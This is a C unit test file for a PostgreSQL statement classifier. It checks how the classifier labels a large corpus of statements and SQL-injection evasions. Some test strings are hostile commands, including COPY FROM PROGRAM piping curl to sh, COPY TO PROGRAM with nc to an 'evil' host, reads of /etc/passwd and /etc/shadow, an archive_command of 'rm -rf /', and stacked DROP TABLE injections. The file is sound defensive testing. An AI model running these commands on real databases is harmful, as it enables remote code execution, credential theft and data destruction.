/* test_sqlclass.c: the SQL classifier against a corpus of statements and evasions. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>

#include <cmocka.h>

#include "sqlclass.h"
#include "util.h"

#define R SQLCLASS_READ
#define W SQLCLASS_WRITE
#define D SQLCLASS_DDL
#define X SQLCLASS_DESTRUCTIVE
#define P SQLCLASS_PRIVILEGE
#define CP SQLCLASS_COPY_PROGRAM
#define M SQLCLASS_MULTI_STATEMENT
#define F SQLCLASS_DANGEROUS_FUNCTION
#define U SQLCLASS_UNPARSEABLE
#define K SQLCLASS_UNKNOWN
#define NONE 0u
#define T(s, w)                                                                                    \
	{                                                                                          \
		.sql = (s), .want = (w)                                                            \
	}
#define TL(s, w, l)                                                                                \
	{                                                                                          \
		.sql = (s), .want = (w), .len = (l)                                                \
	}

struct sql_case {
	const char *sql;
	uint32_t want;
	size_t len; /* 0: strlen(sql) */
};

/* clang-format off */
static const struct sql_case corpus[] = {
	/* reads */
	T("SELECT 1", R),
	T("select * from t where id = 1", R),
	T("SeLeCt name FROM users", R),
	T("VALUES (1), (2)", R),
	T("TABLE t", R),
	T("(SELECT 1) UNION (SELECT 2)", R),
	T("SELECT count(*) FROM t GROUP BY a HAVING count(*) > 1", R),
	T("SELECT * FROM t WHERE id IN (SELECT id FROM u)", R),
	T("SHOW search_path", R),
	T("SHOW ALL", R),
	T("WITH a AS (SELECT 1) SELECT * FROM a", R),
	T("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r", R),
	T("WITH a AS MATERIALIZED (SELECT 1) SELECT * FROM a", R),
	T("SELECT substring('abc' FROM 1 FOR 2)", R),
	T("FETCH 10 FROM c", R),
	T("DECLARE c CURSOR FOR SELECT * FROM t", R),
	T("SELECT 'DROP TABLE x'", R),
	T("SELECT \"drop\" FROM \"delete\"", R),
	T("SELECT \"DROP TABLE x; --\" FROM t", R),
	T("SELECT 1 -- ; DROP TABLE x", R),
	T("SELECT 1 /* ; DROP TABLE x */", R),
	T("SELECT $$;DROP$$", R),
	T("SELECT $tag$ ; DROP TABLE x; $tag$", R),
	T("SELECT $a$ $b$ ; DROP $b$ $a$", R),
	T("SELECT $a$ $A$; DROP TABLE x; $a$", R),
	T("SELECT a$$b FROM t", R),
	T("SELECT E'\\';DROP TABLE x --'", R),
	T("SELECT E'\\\\';DROP TABLE x --'", R | D | X | M),
	T("SELECT E'\\'';DROP TABLE x --'", R | D | X | M),
	T("SELECT e'it\\'s'", R),
	T("SELECT 'it''s; DROP TABLE x'", R),
	T("SELECT B'1010', X'ff'", R),
	T("SELECT N'text; DROP'", R),
	T("SELECT U&'d\\0061t\\+000061'", R),
	T("SELECT 1.5e10, .5, 42", R),
	T("SELECT $1::int", R),
	T("SELECT a->>'k' FROM j", R),
	T("SELECT * FROM delete_log", R),
	T("SELECT drop_count FROM stats", R),
	T("SELECT pg_catalog.set_config('search_path', '', false)", R),
	T("SELECT set_config('application_name', 'x', false)", R),
	T("SELECT current_setting('role')", R),
	T("\xef\xbb\xbfSELECT 1", K),
	/* writes */
	T("INSERT INTO t VALUES (1)", W),
	T("insert into t (a, b) select a, b from u", W),
	T("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1", W),
	T("UPSERT INTO t VALUES (1)", W),
	T("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", W),
	T("UPDATE t SET a = 1 WHERE id = 2", W),
	T("DELETE FROM t WHERE id = 1", W),
	T("DELETE FROM t WHERE true", W),
	T("DELETE FROM t WHERE CURRENT OF c", W),
	T("delete from t where id in (select id from u)", W),
	T("UPDATE t SET a = (SELECT max(b) FROM u WHERE u.id = 1) WHERE id = 1", W),
	T("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", R | W),
	T("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i", R | W),
	T("WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a", W),
	T("WITH a AS (SELECT 1) UPDATE t SET x = 1 WHERE id = 1", W),
	T("SELECT * FROM t FOR UPDATE", R | W),
	T("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", R | W),
	T("SELECT * FROM t FOR SHARE", R | W),
	T("SELECT * FROM t FOR KEY SHARE", R | W),
	T("SELECT * FROM t WHERE id IN (SELECT id FROM u FOR UPDATE)", R | W),
	T("SELECT * INTO new_t FROM t", R | W | D),
	T("SELECT a INTO TEMP tmp FROM t", R | W | D),
	T("CALL do_things(1)", W),
	T("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", W),
	T("DO LANGUAGE plpgsql 'BEGIN NULL; END'", W),
	T("EXECUTE p(1)", W),
	T("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", W),
	T("COPY t FROM STDIN", W),
	T("COPY t (a, b) FROM STDIN WITH (FORMAT csv)", W),
	T("COPY t TO STDOUT", R),
	T("COPY (SELECT * FROM t WHERE a > 1) TO STDOUT WITH CSV", R),
	T("copy t to stdout", R),
	/* destructive */
	T("DELETE FROM t", W | X),
	T("delete from t -- where id=1", W | X),
	T("DELETE FROM t /* WHERE id = 1 */", W | X),
	T("DELETE FROM \"where\"", W | X),
	T("DELETE FROM t WHERE", W),
	T("UPDATE t SET a = 1", W | X),
	T("UPDATE t SET a = (SELECT 1 FROM u WHERE u.x = 1)", W | X),
	T("DELETE FROM t USING (SELECT id FROM u WHERE u.x = 1) s", W | X),
	T("DELETE FROM t WHERE id IN (SELECT id FROM u) ", W),
	T("update t set note = 'where'", W | X),
	T("UPDATE t SET a = $$ WHERE $$", W | X),
	T("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", R | W | X),
	T("WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d", R | W | X),
	T("WITH x AS (SELECT 1 WHERE true) DELETE FROM t", W | X),
	T("WITH delete AS (SELECT 1) SELECT * FROM delete", R),
	T("with a as (select 1), b as (delete from t returning *) select 1", R | W | X),
	T("COPY (DELETE FROM t RETURNING *) TO STDOUT", R | W | X),
	T("TRUNCATE t", W | X),
	T("truncate table a, b cascade", W | X),
	T("DROP TABLE x", D | X),
	T("DROP DATABASE prod", D | X),
	T("drop index concurrently i", D | X),
	T("DROP SCHEMA s CASCADE", D | X),
	T("ALTER TABLE t DROP COLUMN c", D | X),
	T("ALTER TABLE t DROP CONSTRAINT t_pkey", D | X),
	T("ALTER TABLE t ALTER COLUMN c DROP DEFAULT", D | X),
	T("ALTER TABLE t ADD COLUMN c int", D),
	T("ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0)", D),
	T("ALTER TABLE t RENAME TO u", D),
	T("MERGE INTO t USING (DELETE FROM u RETURNING *) s ON true WHEN MATCHED THEN DELETE", W | X),
	/* ddl */
	T("CREATE TABLE t (id int PRIMARY KEY)", D),
	T("CREATE TEMP TABLE t (id int)", D),
	T("CREATE TABLE t AS SELECT * FROM u", D | W),
	T("CREATE MATERIALIZED VIEW v AS SELECT 1", D | W),
	T("CREATE VIEW v AS SELECT 1", D),
	T("CREATE INDEX i ON t (a)", D),
	T("CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1; $$ LANGUAGE sql", D),
	T("CREATE EXTENSION pgcrypto", D),
	T("COMMENT ON TABLE t IS 'drop me'", D),
	T("VACUUM FULL t", D),
	T("VACUUM", D),
	T("ANALYZE t", D),
	T("ANALYSE", D),
	T("REINDEX TABLE t", D),
	T("CLUSTER t USING i", D),
	T("REFRESH MATERIALIZED VIEW v", D),
	T("CHECKPOINT", D),
	T("SECURITY LABEL ON TABLE t IS 'x'", D),
	T("CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM u; TRUNCATE v)", D | W | X),
	/* privilege */
	T("GRANT SELECT ON t TO bob", P),
	T("GRANT UPDATE (a) ON t TO bob", P),
	T("REVOKE ALL ON t FROM bob", P),
	T("grant admin to mallory", P),
	T("ALTER ROLE bob SUPERUSER", D | P),
	T("ALTER USER bob WITH PASSWORD 'x'", D | P),
	T("CREATE ROLE eve LOGIN SUPERUSER", D | P),
	T("CREATE USER eve", D | P),
	T("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x', password 'y')", D | P),
	T("DROP ROLE eve", D | X | P),
	T("DROP OWNED BY eve", D | X | P),
	T("REASSIGN OWNED BY eve TO bob", D | P),
	T("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", D | P),
	T("ALTER TABLE t OWNER TO eve", D | P),
	T("ALTER SYSTEM SET archive_command = 'rm -rf /'", D | P),
	T("CREATE SCHEMA s CREATE TABLE t (a int) GRANT SELECT ON t TO bob", D | P),
	T("SET ROLE postgres", P),
	T("set role none", P),
	T("SET SESSION ROLE postgres", P),
	T("SET LOCAL ROLE postgres", P),
	T("SET SESSION AUTHORIZATION postgres", P),
	T("SET LOCAL SESSION AUTHORIZATION postgres", P),
	T("SET role = 'postgres'", P),
	T("SET \"role\" TO postgres", P),
	T("SET \"ROLE\" TO postgres", P),
	T("SET session_authorization = postgres", P),
	T("SET U&\"rol\\0065\" TO postgres", P),
	T("SELECT set_config('role', 'postgres', false)", R | P),
	T("SELECT set_config('ROLE', 'postgres', false)", R | P),
	T("SELECT set_config('ro' || 'le', 'postgres', false)", R | P),
	T("SELECT set_config($$role$$, 'postgres', false)", R | P),
	T("SELECT set_config(E'rol\\x65', 'postgres', false)", R | P),
	T("SELECT set_config(name, 'x', false) FROM s", R | P),
	/* copy program, dangerous functions */
	T("COPY t FROM PROGRAM 'curl http://x | sh'", W | CP),
	T("COPY t TO PROGRAM 'nc evil 1234'", R | CP),
	T("copy (select 1) to program $$sh -c id$$", R | CP),
	T("COPY t FROM '/etc/passwd'", W | F),
	T("COPY t TO '/tmp/dump'", R | F),
	T("SELECT pg_read_file('/etc/passwd')", R | F),
	T("select PG_READ_FILE('/etc/passwd')", R | F),
	T("SELECT pg_catalog.pg_read_file('/etc/passwd')", R | F),
	T("SELECT \"pg_read_file\"('/etc/passwd')", R | F),
	T("SELECT pg_read_file /* x */ ('/etc/passwd')", R | F),
	T("SELECT U&\"pg_read\\005ffile\"('/etc/passwd')", R | F),
	T("SELECT lo_import('/etc/shadow')", R | F),
	T("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", R | F),
	T("SELECT * FROM dblink('host=x', 'DROP TABLE t') AS r(a int)", R | F),
	T("INSERT INTO t SELECT pg_read_binary_file('/x')", W | F),
	T("SELECT query_to_xml('DELETE FROM t', true, false, '')", R | F),
	T("SELECT 'pg_read_file(1)'", R),
	T("SELECT pg_read_file", R),
	T("LOAD 'evil.so'", D | F),
	/* EXPLAIN */
	T("EXPLAIN SELECT 1", R),
	T("EXPLAIN DELETE FROM t", R),
	T("EXPLAIN (VERBOSE) DELETE FROM t", R),
	T("EXPLAIN (ANALYZE false) DELETE FROM t", R),
	T("EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM t", R),
	T("EXPLAIN ANALYZE DELETE FROM t", W | X),
	T("explain analyse delete from t where id = 1", W),
	T("EXPLAIN ANALYZE VERBOSE UPDATE t SET a = 1", W | X),
	T("EXPLAIN (ANALYZE) DELETE FROM t", W | X),
	T("EXPLAIN (ANALYZE true, BUFFERS) INSERT INTO t VALUES (1)", W),
	T("EXPLAIN (FORMAT json, ANALYZE on) SELECT 1", R),
	T("EXPLAIN (ANALYZE 'off') DELETE FROM t", W | X),
	T("EXPLAIN ANALYZE SELECT * INTO t2 FROM t", R | W | D),
	/* neutral */
	T("BEGIN", NONE),
	T("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", NONE),
	T("COMMIT", NONE),
	T("END", NONE),
	T("ROLLBACK", NONE),
	T("ABORT", NONE),
	T("SAVEPOINT a", NONE),
	T("RELEASE SAVEPOINT a", NONE),
	T("ROLLBACK TO SAVEPOINT a", NONE),
	T("PREPARE TRANSACTION 'x'", NONE),
	T("COMMIT PREPARED 'x'", NONE),
	T("SET search_path = public", NONE),
	T("SET LOCAL statement_timeout = '5s'", NONE),
	T("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", NONE),
	T("SET TRANSACTION READ ONLY", NONE),
	T("SET myapp.role = 'x'", NONE),
	T("RESET ALL", NONE),
	T("RESET ROLE", NONE),
	T("DISCARD ALL", NONE),
	T("DEALLOCATE p", NONE),
	T("LISTEN ch", NONE),
	T("NOTIFY ch, 'x'", NONE),
	T("", NONE),
	T("   \t\n ", NONE),
	T(";;;", NONE),
	T("-- only a comment", NONE),
	T("/* only */ /* comments */", NONE),
	/* PREPARE */
	T("PREPARE p(int) AS DELETE FROM t WHERE id = $1", W),
	T("PREPARE p AS DELETE FROM t", W | X),
	T("PREPARE p AS SELECT 1", R),
	T("PREPARE transaction AS SELECT 1", R),
	T("DECLARE transaction CURSOR FOR SELECT * FROM t FOR UPDATE", R | W),
	/* multiple statements */
	T("SELECT 1; DROP TABLE x", R | D | X | M),
	T("SELECT 1;DROP TABLE x;", R | D | X | M),
	T("SELECT 1; SELECT 2", R | M),
	T("BEGIN; DELETE FROM t WHERE id = 1; COMMIT", W | M),
	T("SELECT 1;", R),
	T(";SELECT 1;;", R),
	T("SELECT 1; -- DROP TABLE x", R),
	T("SELECT 1; /* DROP */ ;", R),
	T("SELECT 'a;DROP TABLE x'", R),
	T("SELECT \"a;DROP TABLE x\"", R),
	T("SELECT (1; DROP TABLE x)", R | D | X),
	T("SELECT 1 -- comment\n; DROP TABLE x", R | D | X | M),
	T("SELECT 1 -- comment\r; DROP TABLE x", R | D | X | M),
	/* evasions: comments, case, whitespace */
	T("DR/**/OP TABLE x", K),
	T("DROP/**/TABLE x", D | X),
	T("DELETE/**/FROM t", W | X),
	T("/* hi */ DELETE FROM t", W | X),
	T("/* a /* nested */ still comment; DROP TABLE x */ SELECT 1", R),
	T("/*/ DROP TABLE x */ SELECT 1", R),
	T("DrOp TaBlE x", D | X),
	T("\tdrop\ttable\tx", D | X),
	T("\nDROP\nTABLE\nx\n", D | X),
	T("\fDROP\fTABLE\fx", D | X),
	T("\vDROP\vTABLE\vx", D | X),
	T("\r\nDROP\r\nTABLE x", D | X),
	T("DROP\xc2\xa0TABLE x", K),
	T("--\nDROP TABLE x", D | X),
	T("SELECT 1 --\n; DROP TABLE x", R | D | X | M),
	T("SELECT 1/*; */;DELETE FROM t", R | W | X | M),
	T("SELECT $$ $$; DELETE FROM t", R | W | X | M),
	T("SELECT $x$ $$ $x$; DELETE FROM t", R | W | X | M),
	T("SELECT $1;DROP TABLE x", R | D | X | M),
	T("SELECT $1$;DROP TABLE x", R | D | X | M),
	T("SELECT 1$$; DROP $$", R),
	T("SELECT e'\\\\'; DROP TABLE x", R | D | X | M),
	T("SELECT 'a\\'; DROP TABLE x; --'", R | D | X | M),
	T("SELECT 'a\\'' ; DROP TABLE x; --'", R | D | X | M),
	T("SELECT E'a\\'' ; DROP TABLE x; --'", R | D | X | M),
	T("SELECT \"\"\"\"; DROP TABLE x", R | D | X | M),
	T("SELECT 1E'\\'';DROP TABLE x;--'", R | D | X | M),
	T("SELECT 1e'x'", R),
	T("SELECT 1.5e-3, 2E+4, 3e5", R),
	T("SELECT 1..2", R),
	T("SELECT 0xE'\\'';DROP TABLE x;--'", R | D | X | M),
	T("sElEcT 1; dRoP tAbLe x", R | D | X | M),
	T("SELECT * FROM t WHERE a = $$x$$; DROP TABLE t", R | D | X | M),
	T("DELETE\tFROM\tt\fWHERE\vid=1", W),
	T("DELETE FROM t WHERE/**/id=1", W),
	T("DELETE FROM t WH/**/ERE id = 1", W | X),
	T("UPDATE t SET a = 1 -- WHERE id = 1\n", W | X),
	T("UPDATE t SET a=1 WHERE id=1; DELETE FROM t", W | X | M),
	T("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT 1", R | W | X),
	T("EXPLAIN WITH d AS (DELETE FROM t RETURNING 1) SELECT 1", R),
	T("CREATE TABLE t AS WITH d AS (DELETE FROM u RETURNING *) SELECT * FROM d", D | W | X),
	T("SELECT * FROM t; COPY t FROM PROGRAM 'x'", R | W | CP | M),
	T("SET standard_conforming_strings = off; SELECT 'a\\'' ; DROP TABLE x; --'",
	  R | D | X | M),
	T("SELECT 'C:\\'", R),
	T("SELECT (SELECT (SELECT pg_ls_dir('/')))", R | F),
	T("SELECT * FROM t WHERE x = (DELETE FROM u RETURNING 1)", R | W | X),
	/* unparseable, unknown */
	T("SELECT 'unterminated", R | U),
	T("SELECT 'a'; DROP TABLE x; SELECT 'b", R | D | X | M | U),
	T("SELECT E'\\'", R | U),
	T("SELECT \"unterminated", R | U),
	T("SELECT 1 /* unterminated", R | U),
	T("SELECT 1 /* /* */", R | U),
	T("SELECT $$ unterminated", R | U),
	T("SELECT $a$ unterminated $b$", R | U),
	T("'just a string", U),
	T("SELECT (1", R | U),
	T("SELECT 1)", R | U),
	T("SELECT 1); DROP TABLE x", R | U | D | X | M),
	TL("SELECT 1\0; DROP TABLE x", R | U, 24),
	TL("SELECT 1 -- \0\n", R | U, 14),
	TL("SELECT 'a\0b'", R | U, 13),
	T("FROBNICATE t", K),
	T("42", K),
	T("'DROP TABLE x'", K),
	T("\"DROP\" TABLE x", K),
	T("WITH a AS (SELECT 1)", K),
	T("REPLACE INTO t VALUES (1)", K),
};
/* clang-format on */

static void test_corpus(void **state)
{
	char want[SQLCLASS_NAMES_MAX], got[SQLCLASS_NAMES_MAX];
	size_t i, failures = 0;

	for (i = 0; i < ARRAY_SIZE(corpus); i++) {
		const struct sql_case *c = &corpus[i];
		size_t len = c->len ? c->len : strlen(c->sql);
		uint32_t mask = 0;
		int r;

		r = sqlclass_mask(c->sql, len, &mask);
		if (r == 0 && mask == c->want)
			continue;
		failures++;
		assert_int_equal(sqlclass_names(c->want, want, sizeof(want)) >= 0, 1);
		if (r < 0)
			snprintf(got, sizeof(got), "error %d", r);
		else
			assert_int_equal(sqlclass_names(mask, got, sizeof(got)) >= 0, 1);
		print_error("case %zu: '%s'\n    expected: %s\n    actual:   %s\n", i, c->sql,
			    *want ? want : "(none)", *got ? got : "(none)");
	}
	print_message("%zu corpus cases, %zu failed\n", ARRAY_SIZE(corpus), failures);
	assert_int_equal(failures, 0);
}

/* sqlclass_classify() agrees with sqlclass_mask() on every corpus case. */
static void test_corpus_classify_agrees(void **state)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(corpus); i++) {
		const struct sql_case *c = &corpus[i];
		size_t len = c->len ? c->len : strlen(c->sql);
		struct sqlclass_result *res = NULL;
		uint32_t mask = 0, all = 0;
		size_t j;

		assert_int_equal(sqlclass_mask(c->sql, len, &mask), 0);
		assert_int_equal(sqlclass_classify(c->sql, len, &res), 0);
		assert_int_equal(res->classes, mask);
		for (j = 0; j < res->n_statements; j++) {
			assert_true(res->statements[j].offset + res->statements[j].length <= len);
			all |= res->statements[j].classes;
		}
		if (res->n_statements > 1)
			all |= SQLCLASS_MULTI_STATEMENT;
		/* Only the second string reading and NUL add classes beyond the statements. */
		if (!memchr(c->sql, '\\', len) && !memchr(c->sql, '\0', len))
			assert_int_equal(all, mask);
		sqlclass_result_free(res);
	}
}

static void expect_stmt(const struct sqlclass_result *res, size_t i, const char *sql,
			const char *text, const char *keyword, uint32_t classes)
{
	const struct sqlclass_stmt *s;
	char want[SQLCLASS_NAMES_MAX], got[SQLCLASS_NAMES_MAX];

	assert_true(i < res->n_statements);
	s = &res->statements[i];
	if (s->classes != classes) {
		sqlclass_names(classes, want, sizeof(want));
		sqlclass_names(s->classes, got, sizeof(got));
		print_error("statement %zu of '%s': expected %s, actual %s\n", i, sql, want, got);
	}
	assert_int_equal(s->classes, classes);
	assert_int_equal(s->length, strlen(text));
	assert_memory_equal(sql + s->offset, text, s->length);
	assert_string_equal(s->keyword, keyword);
}

static void test_statements(void **state)
{
	const char *sql = "  select 1 ;\n/* c */ DROP TABLE x;;-- tail\nexplain analyze delete "
			  "from t where a = ';'  ; BEGIN";
	struct sqlclass_result *res = NULL;

	assert_int_equal(sqlclass_classify(sql, strlen(sql), &res), 0);
	assert_int_equal(res->n_statements, 4);
	expect_stmt(res, 0, sql, "select 1", "SELECT", SQLCLASS_READ);
	expect_stmt(res, 1, sql, "DROP TABLE x", "DROP", SQLCLASS_DDL | SQLCLASS_DESTRUCTIVE);
	expect_stmt(res, 2, sql, "explain analyze delete from t where a = ';'", "EXPLAIN",
		    SQLCLASS_WRITE);
	expect_stmt(res, 3, sql, "BEGIN", "BEGIN", 0);
	assert_int_equal(res->classes, SQLCLASS_READ | SQLCLASS_DDL | SQLCLASS_DESTRUCTIVE |
					   SQLCLASS_WRITE | SQLCLASS_MULTI_STATEMENT);
	sqlclass_result_free(res);
}

static void test_statement_keywords(void **state)
{
	static const struct {
		const char *sql, *keyword;
	} cases[] = {
		{ "(SELECT 1)", "SELECT" },
		{ "with a as (select 1) delete from t", "WITH" },
		{ "'x'", "" },
		{ "SELECT 'open", "SELECT" },
		{ "a_very_long_identifier_that_does_not_fit", "A_VERY_LONG_IDENTIFIER_" },
	};
	struct sqlclass_result *res;
	size_t i;

	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		res = NULL;
		assert_int_equal(sqlclass_classify(cases[i].sql, strlen(cases[i].sql), &res), 0);
		assert_int_equal(res->n_statements, 1);
		assert_string_equal(res->statements[0].keyword, cases[i].keyword);
		sqlclass_result_free(res);
	}
}

static void test_unparseable_span(void **state)
{
	const char *sql = "SELECT 1; SELECT 'open; DROP TABLE x";
	struct sqlclass_result *res = NULL;

	assert_int_equal(sqlclass_classify(sql, strlen(sql), &res), 0);
	assert_int_equal(res->n_statements, 2);
	expect_stmt(res, 1, sql, "SELECT 'open; DROP TABLE x", "SELECT",
		    SQLCLASS_READ | SQLCLASS_UNPARSEABLE);
	sqlclass_result_free(res);
}

static void test_empty(void **state)
{
	struct sqlclass_result *res = NULL;

	assert_int_equal(sqlclass_classify(NULL, 0, &res), 0);
	assert_int_equal(res->n_statements, 0);
	assert_int_equal(res->classes, 0);
	sqlclass_result_free(res);
}

static void test_errors(void **state)
{
	struct sqlclass_result *res = NULL;
	uint32_t mask = 0;

	assert_int_equal(sqlclass_classify(NULL, 1, &res), -EINVAL);
	assert_int_equal(sqlclass_classify("x", 1, NULL), -EINVAL);
	assert_int_equal(sqlclass_mask("x", 1, NULL), -EINVAL);
	assert_null(sqlclass_result_free(NULL));
	assert_null(res);
	(void)mask;
}

static void test_limit_length(void **state)
{
	size_t n = SQLCLASS_MAX_INPUT + 1;
	_cleanup_free_ char *big = malloc(n);
	uint32_t mask = 0;

	assert_non_null(big);
	memset(big, ' ', n);
	memcpy(big, "SELECT 1", 8);
	assert_int_equal(sqlclass_mask(big, n, &mask), -EMSGSIZE);
	assert_int_equal(sqlclass_mask(big, n - 1, &mask), 0);
	assert_int_equal(mask, SQLCLASS_READ);
}

static void test_limit_statements(void **state)
{
	size_t n = SQLCLASS_MAX_STATEMENTS + 1, i;
	_cleanup_free_ char *sql = malloc(n * 3 + 1);
	struct sqlclass_result *res = NULL;
	uint32_t mask = 0;

	assert_non_null(sql);
	for (i = 0; i < n; i++)
		memcpy(sql + 3 * i, "X1;", 3);
	assert_int_equal(sqlclass_mask(sql, 3 * (n - 1), &mask), 0);
	assert_int_equal(mask, SQLCLASS_UNKNOWN | SQLCLASS_MULTI_STATEMENT);
	assert_int_equal(sqlclass_classify(sql, 3 * (n - 1), &res), 0);
	assert_int_equal(res->n_statements, SQLCLASS_MAX_STATEMENTS);
	sqlclass_result_free(res);
	assert_int_equal(sqlclass_mask(sql, 3 * n, &mask), -E2BIG);
	res = NULL;
	assert_int_equal(sqlclass_classify(sql, 3 * n, &res), -E2BIG);
	assert_null(res);
	/* Empty statements do not count. */
	memset(sql, ';', 3 * n);
	assert_int_equal(sqlclass_mask(sql, 3 * n, &mask), 0);
	assert_int_equal(mask, 0);
}

static void test_limit_depth(void **state)
{
	char sql[2 * SQLCLASS_MAX_DEPTH + 16];
	size_t d = SQLCLASS_MAX_DEPTH, i, n = 0;
	uint32_t mask = 0;

	n += (size_t)sprintf(sql, "SELECT ");
	for (i = 0; i < d; i++)
		sql[n++] = '(';
	sql[n++] = '1';
	for (i = 0; i < d; i++)
		sql[n++] = ')';
	assert_int_equal(sqlclass_mask(sql, n, &mask), 0);
	assert_int_equal(mask, SQLCLASS_READ);

	n = (size_t)sprintf(sql, "SELECT ");
	for (i = 0; i <= d; i++)
		sql[n++] = '(';
	assert_int_equal(sqlclass_mask(sql, n, &mask), -ERANGE);
}

/* Ordinary large SQL stays far inside the work budget; crafted rescans hit it. */
static void test_limit_work(void **state)
{
	size_t cap = SQLCLASS_MAX_INPUT, n = 0, i;
	_cleanup_free_ char *sql = malloc(cap + 64);
	uint32_t mask = 0;

	assert_non_null(sql);
	n = (size_t)sprintf(sql, "INSERT INTO t (a, b, c) VALUES ");
	while (n < cap - 64)
		n += (size_t)sprintf(sql + n, "(1, 'it''s', (2 + (3 * 4))), ");
	n += (size_t)sprintf(sql + n, "(0, '', 0)");
	assert_int_equal(sqlclass_mask(sql, n, &mask), 0);
	assert_int_equal(mask, SQLCLASS_WRITE);

	/* One statement, 1 MiB of data-modifying CTEs ten subqueries deep. */
	n = (size_t)sprintf(sql, "WITH ");
	while (n < cap - 512) {
		n += (size_t)sprintf(sql + n, "d AS (DELETE FROM t WHERE id IN ");
		for (i = 0; i < 10; i++)
			n += (size_t)sprintf(sql + n, "(SELECT id FROM u WHERE x = ");
		n += (size_t)sprintf(sql + n, "1");
		for (i = 0; i < 10; i++)
			sql[n++] = ')';
		n += (size_t)sprintf(sql + n, " RETURNING *),\n");
	}
	n += (size_t)sprintf(sql + n, "e AS (SELECT 1) SELECT * FROM d");
	assert_int_equal(sqlclass_mask(sql, n, &mask), 0);
	assert_int_equal(mask, SQLCLASS_READ | SQLCLASS_WRITE);

	/* Sixty nested data-modifying statements over one long tail. */
	n = (size_t)sprintf(sql, "SELECT ");
	for (i = 0; i < 60; i++)
		n += (size_t)sprintf(sql + n, "(DELETE ");
	while (n < cap - 128) {
		sql[n++] = 'x';
		sql[n++] = ' ';
	}
	for (i = 0; i < 60; i++)
		sql[n++] = ')';
	assert_int_equal(sqlclass_mask(sql, n, &mask), -ERANGE);
}

static void test_deterministic(void **state)
{
	const char *sql = "WITH d AS (DELETE FROM t RETURNING *) SELECT pg_read_file('x'); "
			  "COPY t FROM PROGRAM 'id'; SET ROLE r";
	uint32_t a = 0, b = 0;

	assert_int_equal(sqlclass_mask(sql, strlen(sql), &a), 0);
	assert_int_equal(sqlclass_mask(sql, strlen(sql), &b), 0);
	assert_int_equal(a, b);
	assert_int_equal(a, SQLCLASS_READ | SQLCLASS_WRITE | SQLCLASS_DESTRUCTIVE |
				SQLCLASS_DANGEROUS_FUNCTION | SQLCLASS_COPY_PROGRAM |
				SQLCLASS_PRIVILEGE | SQLCLASS_MULTI_STATEMENT);
}

static void test_names(void **state)
{
	char buf[SQLCLASS_NAMES_MAX], small[8];
	uint32_t bit = 0;

	assert_int_equal(sqlclass_names(0, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "");
	assert_int_equal(sqlclass_names(SQLCLASS_READ | SQLCLASS_DESTRUCTIVE, buf, sizeof(buf)),
			 16);
	assert_string_equal(buf, "read,destructive");
	assert_true(sqlclass_names(SQLCLASS_ALL, buf, sizeof(buf)) > 0);
	assert_string_equal(buf, "read,write,ddl,destructive,privilege,copy_program,"
				 "multi_statement,dangerous_function,unparseable,unknown");
	assert_int_equal(sqlclass_names(SQLCLASS_ALL + 1, buf, sizeof(buf)), -EINVAL);
	assert_int_equal(sqlclass_names(SQLCLASS_READ | SQLCLASS_WRITE, small, 8), -ENOBUFS);
	assert_string_equal(small, "");
	assert_int_equal(sqlclass_names(SQLCLASS_READ, small, 5), 4);

	assert_int_equal(sqlclass_from_name("copy_program", &bit), 0);
	assert_int_equal(bit, SQLCLASS_COPY_PROGRAM);
	assert_int_equal(sqlclass_from_name("unparseable", &bit), 0);
	assert_int_equal(bit, SQLCLASS_UNPARSEABLE);
	assert_int_equal(sqlclass_from_name("Read", &bit), -EINVAL);
	assert_int_equal(sqlclass_from_name("", &bit), -EINVAL);
	assert_int_equal(sqlclass_from_name("read,write", &bit), -EINVAL);
	assert_int_equal(sqlclass_from_name(NULL, &bit), -EINVAL);
}

static void test_names_roundtrip(void **state)
{
	char buf[SQLCLASS_NAMES_MAX], *save = NULL, *name;
	uint32_t mask, bit, back;

	for (mask = 0; mask <= SQLCLASS_ALL; mask++) {
		assert_true(sqlclass_names(mask, buf, sizeof(buf)) >= 0);
		back = 0;
		for (name = strtok_r(buf, ",", &save); name; name = strtok_r(NULL, ",", &save)) {
			assert_int_equal(sqlclass_from_name(name, &bit), 0);
			back |= bit;
		}
		assert_int_equal(back, mask);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_corpus),
		cmocka_unit_test(test_corpus_classify_agrees),
		cmocka_unit_test(test_statements),
		cmocka_unit_test(test_statement_keywords),
		cmocka_unit_test(test_unparseable_span),
		cmocka_unit_test(test_empty),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_limit_length),
		cmocka_unit_test(test_limit_statements),
		cmocka_unit_test(test_limit_depth),
		cmocka_unit_test(test_limit_work),
		cmocka_unit_test(test_deterministic),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_names_roundtrip),
	};

	return cmocka_run_group_tests_name("sqlclass", tests, NULL, NULL);
}
